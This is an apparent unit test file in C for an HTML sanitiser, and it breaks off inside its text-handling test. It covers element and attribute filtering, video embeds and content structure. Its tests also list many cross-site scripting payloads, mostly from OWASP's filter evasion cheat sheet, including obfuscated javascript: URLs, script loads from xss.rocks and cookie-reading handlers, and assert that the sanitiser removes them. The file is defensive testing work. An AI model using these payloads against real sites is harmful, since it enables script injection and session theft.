/*
 * test_sanitize.c: unit tests for render/sanitize.c: what is kept, what is
 * unwrapped and what is dropped with its content; attributes per element;
 * hostile URLs (mixed case, entities, tabs, newlines, NUL and other
 * control characters, data: and vbscript:); the vectors of OWASP's XSS
 * filter evasion cheat sheet; video players turned into the facade; the
 * content model (lists, tables, blocks in phrasing); invalid UTF-8; the
 * size cap; the URL and image callbacks; and the golden corpus
 * tests/unit/corpus/sanitize/ (NAME.in HTML, NAME.out the exact output).
 * Every output is also checked by sanitize_check.h and sanitised again to
 * the same bytes.
 */
#include <stdbool.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "render/sanitize.h"
#include "util/alloc.h"
#include "unit/sanitize_check.h"
#include "testhelp.h"

/*
 * Sanitises len bytes with opts; checks the output's structure and that
 * sanitising it again gives the same bytes.  Returns malloc'd HTML or
 * NULL.
 */
static char *
san_opts(const char *html, size_t len, const struct sanitize_options *opts)
{
	struct trusted_html out, again;
	const char *why;

	if (sanitize_html(html, len, opts, &out) != 0) {
		CHECK(!"sanitize_html failed");
		return NULL;
	}
	CHECK(out.len == strlen(out.html));
	why = sanitize_check(out.html);
	if (why != NULL)
		fprintf(stderr, "check: %s in: %s\n", why, out.html);
	CHECK(why == NULL);
	CHECK(sanitize_html(out.html, out.len, opts, &again) == 0);
	if (again.html != NULL && strcmp(again.html, out.html) != 0)
		fprintf(stderr, "not idempotent:\n  1: %s\n  2: %s\n", out.html,
		        again.html);
	CHECK(again.html != NULL && strcmp(again.html, out.html) == 0);
	free((char *)again.html);
	return (char *)out.html;
}

static char *
san(const char *html)
{
	return san_opts(html, strlen(html), NULL);
}

/* Checks that html sanitises to exactly want. */
static void
check_san(const char *html, const char *want)
{
	char *got = san(html);

	CHECK_STR(got, want);
	free(got);
}

/* Checks that html sanitises to something safe (see san) without script,
 * event handlers or a dangerous URL anywhere in a tag. */
static void
check_clean(const char *html)
{
	char *got = san(html);
	const char *p;

	CHECK(got != NULL);
	if (got == NULL)
		return;
	CHECK(!test_contains_nocase(got, "<script"));
	CHECK(!test_contains_nocase(got, "<svg"));
	CHECK(!test_contains_nocase(got, "<iframe"));
	CHECK(!test_contains_nocase(got, "<style"));
	/* Inside tags (text may say anything, escaped). */
	for (p = got; (p = strchr(p, '<')) != NULL; p++) {
		const char *e = strchr(p, '>');
		char *tag;

		CHECK(e != NULL);
		if (e == NULL)
			break;
		tag = xstrndup(p, (size_t)(e - p));
		CHECK(!test_contains_nocase(tag, "javascript"));
		CHECK(!test_contains_nocase(tag, "vbscript"));
		CHECK(!test_contains_nocase(tag, "data:"));
		CHECK(!test_contains_nocase(tag, " on"));
		CHECK(!test_contains_nocase(tag, "style"));
		CHECK(!test_contains_nocase(tag, "expression"));
		if (test_contains_nocase(tag, "javascript") ||
		    test_contains_nocase(tag, " on"))
			fprintf(stderr, "  in: %s\n  out: %s\n", html, got);
		free(tag);
	}
	free(got);
}

static void
test_basics(void)
{
	check_san("", "");
	check_san("plain text", "plain text");
	check_san("a < b & c > d \"q\" 'a'",
	          "a &lt; b &amp; c &gt; d &quot;q&quot; &#39;a&#39;");
	check_san("<p>One</p><p>Two <b>b</b> <i>i</i> <em>e</em> "
	          "<strong>s</strong></p>",
	          "<p>One</p><p>Two <b>b</b> <i>i</i> <em>e</em> "
	          "<strong>s</strong></p>");
	check_san("<P>Upper <STRONG>case</STRONG></P>",
	          "<p>Upper <strong>case</strong></p>");
	check_san("<p>unclosed <b>bold", "<p>unclosed <b>bold</b></p>");
	check_san("<h1>Title</h1><h2>Sub</h2><h6>Six</h6>",
	          "<h2>Title</h2><h2>Sub</h2><h3>Six</h3>");
	check_san("<h3>a</h3><h5>b</h5><h2>c</h2><h4>d</h4><h3>e</h3><h6>f</h6>"
	          "<h1>g</h1><h4></h4><h3>h</h3>",
	          "<h2>a</h2><h3>b</h3><h2>c</h2><h3>d</h3><h3>e</h3><h4>f</h4>"
	          "<h2>g</h2><h3>h</h3>");
	check_san("a<br>b<br/>c<hr>", "a<br>b<br>c<hr>");
	check_san(
	    "<blockquote cite=\"https://ex.org/q\"><p>Q</p></blockquote>",
	    "<blockquote cite=\"https://ex.org/q\"><p>Q</p></blockquote>");
	check_san("<q cite=\"javascript:alert(1)\">x</q>", "<q>x</q>");
	check_san("<p>&copy; &eacute; &#8212; &#x2014; &nbsp;</p>",
	          "<p>\xc2\xa9 \xc3\xa9 \xe2\x80\x94 \xe2\x80\x94 "
	          "\xc2\xa0</p>");
	check_san("<p>x</p><p> </p><p>\n</p><p></p><p>y</p>",
	          "<p>x</p><p>y</p>");
	check_san("<p><br></p>", "<p><br></p>");
	check_san("<pre>  code\n    indented &lt;b&gt;</pre>",
	          "<pre>  code\n    indented &lt;b&gt;</pre>");
	check_san("<code>a</code> <kbd>k</kbd> <sub>1</sub> <sup>2</sup> "
	          "<small>s</small> <mark>m</mark> <u>u</u> <s>s</s> "
	          "<del datetime=\"2020-01-01\">d</del> <ins>i</ins> "
	          "<abbr title=\"World Wide Web\">WWW</abbr> "
	          "<time datetime=\"2020-01-01T10:00\">t</time>",
	          "<code>a</code> <kbd>k</kbd> <sub>1</sub> <sup>2</sup> "
	          "<small>s</small> <mark>m</mark> <u>u</u> <s>s</s> "
	          "<del datetime=\"2020-01-01\">d</del> <ins>i</ins> "
	          "<abbr title=\"World Wide Web\">WWW</abbr> "
	          "<time datetime=\"2020-01-01T10:00\">t</time>");
}

/* Elements dropped with their content, and elements unwrapped. */
static void
test_drop_unwrap(void)
{
	check_san("a<script>alert(1)</script>b", "ab");
	check_san("a<style>p{}</style>b", "ab");
	check_san("a<noscript>n</noscript>b", "ab");
	check_san("a<template><p>t</p></template>b", "ab");
	check_san("a<svg><circle/></svg>b", "ab");
	check_san("a<math><mi>x</mi></math>b", "ab");
	check_san("a<object data=x>o</object>b", "ab");
	check_san("a<embed src=x>b<embed src=y></embed>c", "abc");
	check_san("a<form><input value=v><button>b</button>"
	          "<textarea>t</textarea><select><option>o</select></form>b",
	          "ab");
	check_san("<p>a<iframe src=\"https://example.org/\">f</iframe>b</p>",
	          "<p>ab</p>");
	check_san("<p>a<font color=red>red</font> <center>c</center></p>",
	          "<p>ared </p>c");
	check_san("<section><article><p>x</p></article></section>", "<p>x</p>");
	check_san("<p>a<!-- comment -->b<?php echo 1 ?>c</p>", "<p>abc</p>");
	check_san("<html><head><title>T</title><meta charset=x></head>"
	          "<body><p>b</p></body></html>",
	          "<p>b</p>");
	check_san("<custom-element foo=bar>text</custom-element>", "text");
	check_san("<picture><source srcset=a.webp><img src=a.jpg alt=a>"
	          "</picture>",
	          "<img src=\"a.jpg\" alt=\"a\" loading=\"lazy\" "
	          "decoding=\"async\">");
}

/* Attributes: which stay, which go, how values are checked. */
static void
test_attributes(void)
{
	check_san("<p id=\"intro\" class=\"x\" style=\"color:red\" "
	          "onclick=\"alert(1)\" lang=\"ar\" dir=\"RTL\" "
	          "title=\"T &amp; &quot;q&quot;\">x</p>",
	          "<p id=\"body-intro\" lang=\"ar\" dir=\"rtl\" "
	          "title=\"T &amp; &quot;q&quot;\">x</p>");
	check_san("<p id=\"1bad\" lang=\"a b\" dir=\"up\">x</p>", "<p>x</p>");
	/* Ids and in-page links carry the prefix, once. */
	check_san("<h2 id=\"title\">T</h2><p id=\"body-x\">x</p>"
	          "<a href=\"#title\">t</a> <a href=\"#body-x\">x</a> "
	          "<a href=\"#\">top</a> <a href=\"/p#title\">p</a>",
	          "<h2 id=\"body-title\">T</h2><p id=\"body-x\">x</p>"
	          "<a href=\"#body-title\">t</a> <a href=\"#body-x\">x</a> "
	          "<a href=\"#\">top</a> <a href=\"/p#title\">p</a>");
	check_san("<a href=\"https://ex.org/a?b=1&amp;c=2\" target=\"_blank\" "
	          "rel=\"opener\" name=\"n\">x</a>",
	          "<a href=\"https://ex.org/a?b=1&amp;c=2\">x</a>");
	check_san(
	    "<a href=\"/path\">r</a> <a href=\"#frag\">f</a> "
	    "<a href=\"mailto:a@ex.org\">m</a> <a href=\"page.html\">p</a>",
	    "<a href=\"/path\">r</a> <a href=\"#body-frag\">f</a> "
	    "<a href=\"mailto:a@ex.org\">m</a> <a href=\"page.html\">p</a>");
	check_san("<a href=\"https://ex.org/a b\">sp</a>",
	          "<a href=\"https://ex.org/a%20b\">sp</a>");
	check_san("<a>no href</a>", "no href");
	check_san("<img src=\"/a.jpg\" alt=\"A\" width=\"300\" height=\"200\" "
	          "class=\"size-medium\" srcset=\"x 1w\" sizes=\"1px\">",
	          "<img src=\"/a.jpg\" alt=\"A\" width=\"300\" height=\"200\" "
	          "loading=\"lazy\" decoding=\"async\">");
	check_san("<img src=\"/a.jpg\" width=\"100%\" height=\"-1\">",
	          "<img src=\"/a.jpg\" alt=\"\" loading=\"lazy\" "
	          "decoding=\"async\">");
	check_san("<img alt=\"no src\">", "");
	check_san("<img src=\"\">", "");
	check_san("<img src=\"  \">", "");
	check_san(
	    "<ol start=\"3\" reversed type=\"a\" onclick=x><li>x</li></ol>"
	    "<ol start=\"x\" type=\"disc\"><li>y</li></ol>",
	    "<ol start=\"3\" reversed type=\"a\"><li>x</li></ol>"
	    "<ol><li>y</li></ol>");
	check_san("<table><tr><th scope=\"col\" colspan=\"2\">h</th>"
	          "<td rowspan=\"0\" colspan=\"99999\" align=left>d</td>"
	          "</tr></table>",
	          "<table><tr><th colspan=\"2\" scope=\"col\">h</th><td>d</td>"
	          "</tr></table>");
	check_san("<div class=\"gallery columns-3\"><figure class=\"x\">"
	          "<img src=\"/a.jpg\"></figure></div><div class=\"galleryx\">"
	          "y</div>",
	          "<div class=\"gallery\"><figure><img src=\"/a.jpg\" alt=\"\" "
	          "loading=\"lazy\" decoding=\"async\"></figure></div>"
	          "<div>y</div>");
}

/* Hostile URLs in every disguise. */
static void
test_urls(void)
{
	static const char *const hostile[] = {
	    "javascript:alert(1)",
	    "JaVaScRiPt:alert(1)",
	    "  javascript:alert(1)",
	    "\x01javascript:alert(1)",
	    "jav\tascript:alert(1)",
	    "jav&#x09;ascript:alert(1)",
	    "jav&#x0A;ascript:alert(1)",
	    "jav&#x0D;ascript:alert(1)",
	    "jav&#9;ascript:alert(1)",
	    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
	    "alert(1)",
	    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;"
	    "&#x3A;alert(1)",
	    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
	    "&#0000105&#0000112&#0000116&#0000058alert(1)",
	    "javascript&#58;alert(1)",
	    "javascript&colon;alert(1)",
	    "vbscript:msgbox(1)",
	    "VBScript:msgbox(1)",
	    "livescript:x",
	    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	    "DATA:image/svg+xml,<svg onload=alert(1)>",
	    " &#14; javascript:alert(1)",
	    "file:///etc/passwd",
	    "jar:http://x!/",
	};
	size_t i;

	for (i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		char html[512];
		char *got;

		snprintf(html, sizeof(html), "<a href=\"%s\">t</a>",
		         hostile[i]);
		got = san(html);
		/* javascript&colon; has no scheme to a browser either: the
		 * reference is written &amp;colon; and stays text. */
		if (strstr(hostile[i], "&colon;") != NULL)
			CHECK(got != NULL &&
			      strstr(got, "&amp;colon;") != NULL);
		else
			CHECK_STR(got, "t");
		free(got);
		snprintf(html, sizeof(html), "<img src=\"%s\">", hostile[i]);
		got = san(html);
		if (strstr(hostile[i], "&colon;") == NULL) {
			check_clean(html);
			CHECK_STR(got, "");
		}
		free(got);
	}
	/* A NUL inside the scheme (len-based input). */
	{
		static const char nul[] =
		    "<a href=\"java\0script:alert(1)\">t</a>";
		char *got = san_opts(nul, sizeof(nul) - 1, NULL);

		CHECK_STR(got, "t");
		free(got);
	}
	/* Protocol-relative is http(s); backslashes are encoded. */
	check_san("<a href=\"//ex.org/x\">p</a>",
	          "<a href=\"//ex.org/x\">p</a>");
	check_san("<a href=\"/\\ex.org\">b</a>",
	          "<a href=\"/%5Cex.org\">b</a>");
	check_san("<a href=\"https://ex.org/&quot;onmouseover=&quot;x\">q</a>",
	          "<a href=\"https://ex.org/%22onmouseover=%22x\">q</a>");
}

/* OWASP's XSS filter evasion cheat sheet, vector by vector. */
static void
test_owasp(void)
{
	static const char *const vectors[] = {
	    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
	    "<IMG SRC=\"javascript:alert('XSS');\">",
	    "<IMG SRC=javascript:alert('XSS')>",
	    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
	    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
	    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
	    "<a onmouseover=alert(document.cookie)>xxs link</a>",
	    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
	    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
	    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
	    "<IMG SRC= onmouseover=\"alert('xxs')\">",
	    "<IMG onmouseover=\"alert('xxs')\">",
	    "<IMG SRC=/ "
	    "onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
	    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115"
	    "&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097"
	    "&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088"
	    "&#0000083&#0000083&#0000039&#0000041\">",
	    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;"
	    "&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;"
	    "&#41;>",
	    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
	    "&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
	    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
	    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
	    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
	    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
	    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
	    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
	    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
	    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
	    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
	    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
	    "<SCRIPT SRC=//xss.rocks/.j>",
	    "<IMG SRC=\"`('XSS')\"`",
	    "<iframe src=http://xss.rocks/scriptlet.html <",
	    "\\\";alert('XSS');//",
	    "</script><script>alert('XSS');</script>",
	    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
	    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
	    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
	    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
	    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
	    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}"
	    "</STYLE><UL><LI>XSS</br>",
	    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
	    "<IMG SRC=\"livescript:[code]\">",
	    "<svg/onload=alert('XSS')>",
	    "<BODY ONLOAD=alert('XSS')>",
	    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
	    "<BR SIZE=\"&{alert('XSS')}\">",
	    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
	    "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
	    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
	    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; "
	    "REL=stylesheet\">",
	    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}"
	    "</STYLE>",
	    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
	    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
	    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
	    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}"
	    "</STYLE><A CLASS=XSS></A>",
	    "<STYLE type=\"text/css\">BODY{background:url("
	    "\"javascript:alert('XSS')\")}</STYLE>",
	    "<XSS STYLE=\"behavior: url(xss.htc);\">",
	    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert("
	    "'XSS');\">",
	    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html "
	    "base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
	    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
	    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
	    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
	    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
	    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
	    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
	    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a"
	    "\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a"
	    "\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027"
	    "\\0029'\\0029\">",
	    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
	    "<BASE HREF=\"javascript:alert('XSS');//\">",
	    "<OBJECT TYPE=\"text/x-scriptlet\" "
	    "DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
	    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH"
	    "A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv"
	    "MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs"
	    "aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdo"
	    "dD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+"
	    "YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" "
	    "type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
	    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
	    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- "
	    "-->cript:alert('XSS')\">"
	    "</B></I></XML>",
	    "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-"
	    "microsoft-com:time\"><?import namespace=\"t\" implementation="
	    "\"#default#time2\"><t:set attributeName=\"innerHTML\" "
	    "to=\"XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>\">"
	    "</BODY></HTML>",
	    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
	    "<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
	    "<SCRIPT a=\">\" '' SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
	    "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
	    "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
	    "<SCRIPT a=\">'>\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
	    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://"
	    "xss.rocks/xss.js\"></SCRIPT>",
	    "<A HREF=\"javascript:document.location='http://www.google.com/'\">"
	    "XSS</A>",
	    "<A HREF=\"http://www.google.com/ogle.com/\">XSS</A>",
	    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
	    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
	    "<a href=\"javascript&#x3A;alert(1)\">x</a>",
	    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
	    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a>"
	    "</svg>",
	    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	    "<form><button formaction=javascript:alert(1)>x</button></form>",
	    "<details open ontoggle=alert(1)>x</details>",
	    "<isindex action=javascript:alert(1) type=image>",
	    "<xmp><script>alert(1)</script></xmp>",
	    "<plaintext><script>alert(1)</script>",
	    "<textarea></textarea><script>alert(1)</script>",
	    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
	    "<iframe src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" "
	    "onload=alert(1)></iframe>",
	    "<a data-embed=\"javascript:alert(1)\" href=\"/x\">v</a>",
	    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
	    "<audio src=javascript:alert(1) autoplay></audio>",
	    "<video poster=javascript:alert(1)></video>",
	    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
	    "<a href=\"javascript:alert(1)\"><img src=x></a>",
	    "<p style=\"x:expression(alert(1))\">x</p>",
	    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
	    "<div><a href=\"&#1;javascript:alert(1)\">x</a></div>",
	    "<a href=\"\xc2\xa0javascript:alert(1)\">nbsp</a>",
	    "<img src=\"https://ok/x.png\"\" onerror=\"alert(1)\">",
	    "<img src='https://ok/x.png' onerror='alert(1)'>",
	    "<img/src=x/onerror=alert(1)>",
	    "<a href=x\nonclick=alert(1)>x</a>",
	    "<p title=\"&quot;><script>alert(1)</script>\">x</p>",
	    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
	    "<![CDATA[<script>alert(1)</script>]]>",
	    "<scr<script>ipt>alert(1)</scr</script>ipt>",
	};
	size_t i;

	for (i = 0; i < sizeof(vectors) / sizeof(vectors[0]); i++)
		check_clean(vectors[i]);
	check_san("<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">", "");
	check_san("<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
	          "xxs link");
	check_san("<A HREF=\"http://www.google.com/ogle.com/\">XSS</A>",
	          "<a href=\"http://www.google.com/ogle.com/\">XSS</a>");
	check_san(
	    "<p title=\"&quot;><script>alert(1)</script>\">x</p>",
	    "<p title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">"
	    "x</p>");
}

/* Returns the facade sanitize.c writes for YouTube video dQw4w9WgXcQ
 * labelled label (already escaped), in a static buffer. */
static const char *
yt_facade(const char *label)
{
	static struct buf b;

	buf_reset(&b);
	buf_puts(&b, "<a class=\"video-play\" "
	             "href=\"https://www.youtube.com/watch?v=dQw4w9WgXcQ\" "
	             "data-embed=\"https://www.youtube-nocookie.com/embed/"
	             "dQw4w9WgXcQ?autoplay=1\" data-title=\"");
	buf_puts(&b, label);
	buf_puts(&b, "\" rel=\"noopener noreferrer\"><span "
	             "class=\"play-label\"><span class=\"play-icon\" "
	             "aria-hidden=\"true\"></span>");
	buf_puts(&b, label);
	buf_puts(&b, "</span></a>");
	return b.data;
}

/* Video players become the facade; nothing else is framed. */
static void
test_video(void)
{
	char want[1200];

	check_san("<iframe width=\"560\" height=\"315\" "
	          "src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" "
	          "frameborder=\"0\" allowfullscreen></iframe>",
	          yt_facade("YouTube"));
	check_san("<iframe src=\"https://www.youtube-nocookie.com/embed/"
	          "dQw4w9WgXcQ?rel=0\"></iframe>",
	          yt_facade("YouTube"));
	check_san("<iframe title=\" A &amp;\n B \" "
	          "src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\">"
	          "</iframe>",
	          yt_facade("A &amp; B"));
	/* A C1 control character, which no text keeps, is gone before the
	 * spaces are collapsed: no space is left at the end (the fuzzer
	 * found the output was no fixed point). */
	check_san("<iframe title=\"A\n\xc2\x9a\" "
	          "src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\">"
	          "</iframe>",
	          yt_facade("A"));
	check_san("<iframe src=\"https://player.vimeo.com/video/76979871\">"
	          "</iframe>",
	          "<a class=\"video-play\" href=\"https://vimeo.com/76979871\" "
	          "data-embed=\"https://player.vimeo.com/video/76979871?dnt=1"
	          "&amp;autoplay=1\" data-title=\"Vimeo\" "
	          "rel=\"noopener noreferrer\"><span class=\"play-label\">"
	          "<span class=\"play-icon\" aria-hidden=\"true\"></span>Vimeo"
	          "</span></a>");
	/* Not the providers' players. */
	check_san("<iframe src=\"https://www.youtube.com.evil.example/embed/"
	          "dQw4w9WgXcQ\"></iframe>",
	          "");
	check_san("<iframe src=\"https://evil.example/?https://www.youtube.com"
	          "/embed/dQw4w9WgXcQ\"></iframe>",
	          "");
	check_san("<iframe src=\"https://www.youtube.com/embed/bad\"></iframe>",
	          "");
	check_san("<iframe src=\"https://maps.example/embed\"></iframe>", "");
	/* A link with a foreign data-embed is a plain link. */
	check_san("<a class=\"video-play\" href=\"/v\" "
	          "data-embed=\"https://evil.example/embed/x\">v</a>",
	          "<a href=\"/v\">v</a>");
	/* No facade inside a link. */
	check_san("<a href=\"/x\"><iframe src=\"https://www.youtube.com/embed/"
	          "dQw4w9WgXcQ\"></iframe>x</a>",
	          "<a href=\"/x\">x</a>");
	/* In a list, the facade stands in an item. */
	snprintf(want, sizeof(want), "<ul><li>%s</li></ul>",
	         yt_facade("YouTube"));
	check_san("<ul><iframe src=\"https://youtu.be/dQw4w9WgXcQ\">"
	          "</iframe></ul>",
	          want);
	/* Media files. */
	check_san(
	    "<video src=\"/v.mp4\" autoplay width=\"640\" height=\"360\" "
	    "poster=\"/p.jpg\"><source src=\"/v.webm\" type=\"video/webm\">"
	    "<source src=\"javascript:x\">Fallback <a href=\"/v.mp4\">"
	    "file</a></video>",
	    "<video src=\"/v.mp4\" width=\"640\" height=\"360\" "
	    "poster=\"/p.jpg\" controls preload=\"none\">"
	    "<source src=\"/v.webm\" type=\"video/webm\">Fallback "
	    "<a href=\"/v.mp4\">file</a></video>");
	check_san("<audio src=\"/a.mp3\" loop></audio>",
	          "<audio src=\"/a.mp3\" controls preload=\"none\"></audio>");
	check_san("<p><source src=\"/a.mp3\">x</p>", "<p>x</p>");
}

/* What the writer keeps of HTML's content model. */
static void
test_structure(void)
{
	check_san("<ul>text<li>a</li><p>b</p>\n<li>c</li></ul>",
	          "<ul><li>text</li><li>a</li><li><p>b</p>\n</li><li>c</li>"
	          "</ul>");
	check_san("<ul>\n<li>a</li>\n</ul>", "<ul>\n<li>a</li>\n</ul>");
	check_san("<li>stray</li>", "stray");
	check_san("<dl><dt>a</dt></dl><dl><dt>b</dt><dd>c</dd><dt>d</dt>e</dl>",
	          "<dl><dt>a</dt><dd></dd></dl><dl><dt>b</dt><dd>c</dd><dt>d"
	          "</dt><dd>e</dd></dl>");
	check_san(
	    "<p id=\"a\">1</p><p id=\"a\">2</p><p id=\"body-a\">3</p>"
	    "<p id=\"b\">4</p>",
	    "<p id=\"body-a\">1</p><p>2</p><p>3</p><p id=\"body-b\">4</p>");
	check_san("<dl><dt>t</dt><dd>d</dd>x</dl>",
	          "<dl><dt>t</dt><dd>d</dd><dd>x</dd></dl>");
	check_san("<table><caption>c</caption><thead><tr><th>h</th></tr>"
	          "</thead><tbody><tr><td>d</td></tr></tbody><tfoot><tr><td>f"
	          "</td></tr></tfoot></table>",
	          "<table><caption>c</caption><thead><tr><th>h</th></tr>"
	          "</thead><tbody><tr><td>d</td></tr></tbody><tfoot><tr><td>f"
	          "</td></tr></tfoot></table>");
	check_san("<table><div>x</div><tr><td>1</td>y</tr></table>",
	          "<table><tr><td><div>x</div></td></tr><tr><td>1</td><td>y"
	          "</td></tr></table>");
	check_san("<td>cell</td><tr>row</tr>", "cellrow");
	/* Nothing written: no empty wrapper either. */
	check_san("<ul><img src=\"javascript:x\"><iframe src=\"/x\"></iframe>"
	          "<li>a</li></ul>",
	          "<ul><li>a</li></ul>");
	/* ... and a term followed by what wrote nothing still gets its
	 * description (the fuzzer found this: the output was no fixed
	 * point). */
	check_san("<dl><dt>c</dt><iframe src=\"/x\"></iframe></dl>",
	          "<dl><dt>c</dt><dd></dd></dl>");
	check_san("<dl><dt>c</dt><img src=\"javascript:x\"></dl>",
	          "<dl><dt>c</dt><dd></dd></dl>");
	check_san("<p>a<figure>b<figcaption>c</figcaption></figure>d</p>",
	          "<p>abcd</p>");
	check_san("<figcaption>alone</figcaption>", "alone");
	check_san("<span><div>block in span</div></span>",
	          "<span>block in span</span>");
	check_san("<h2><p>p in h2</p></h2>", "<p>p in h2</p>");
	check_san("<a href=\"/a\">x<a href=\"/b\">y</a></a>",
	          "<a href=\"/a\">x</a><a href=\"/b\">y</a>");
	check_san("<p>a<hr>b</p>", "<p>a</p><hr>b");
	check_san("<b>a<hr>b</b>", "<b>ab</b>");
	check_san("<video><video src=\"/a.mp4\">x</video></video>",
	          "<video controls preload=\"none\">x</video>");
}

/* Text: UTF-8, control characters, line ends, deep nesting, the cap. */
static void
test_text(void)
{
	static const char bad[] = "<p>a\xff"
	                          "b\xc3(c\xed\xa0\x80"
	                          "d\xf0\x9f\x98\x80</p>";
